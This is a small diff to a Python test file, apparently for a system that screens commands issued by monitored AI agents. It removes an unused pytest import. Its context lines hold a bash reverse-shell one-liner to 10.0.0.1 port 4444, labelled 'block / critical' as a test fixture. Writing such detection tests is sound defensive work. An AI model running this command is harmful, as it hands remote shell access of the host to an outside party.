@@ -6,7 +6,6 @@ from __future__ import annotations
 import re
 import time
 
-import pytest
 
 AGENT = {"classification": "confirmed_agent", "monitored": True}
 REVERSE = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"  # block / critical
